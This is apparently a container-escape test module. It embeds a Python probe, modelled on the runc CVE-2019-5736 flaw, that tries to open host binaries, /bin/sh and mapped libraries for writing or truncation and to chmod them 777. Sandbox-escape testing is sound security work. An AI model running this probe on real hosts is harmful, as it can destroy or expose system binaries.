"""Overwrite what the host starts next time through /proc/self/exe, /proc/1/exe or a library that is mapped (CVE-2019-5736)."""

ATTACK = """
import os
import sys

def attack():
    paths = {"/proc/self/exe", "/proc/1/exe", sys.executable, os.path.realpath(sys.executable), "/bin/sh", "/usr/bin/env"}
    with open("/proc/self/maps") as file:
        paths |= {line.split(None, 5)[5].strip() for line in file if "/" in line}
    opened = []
    for path in sorted(paths):
        if not path.startswith("/"):
            continue
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
            try:
                os.close(os.open(path, flags))
                opened.append(path)
            except OSError as error:
                last = error
        try:
            os.chmod(path, 0o777)
            opened.append(path)
        except OSError:
            pass
    if opened:
        return opened
    raise last

def twin():
    with open("/proc/self/exe", "rb") as file:
        return file.read(4).decode("latin-1")
"""
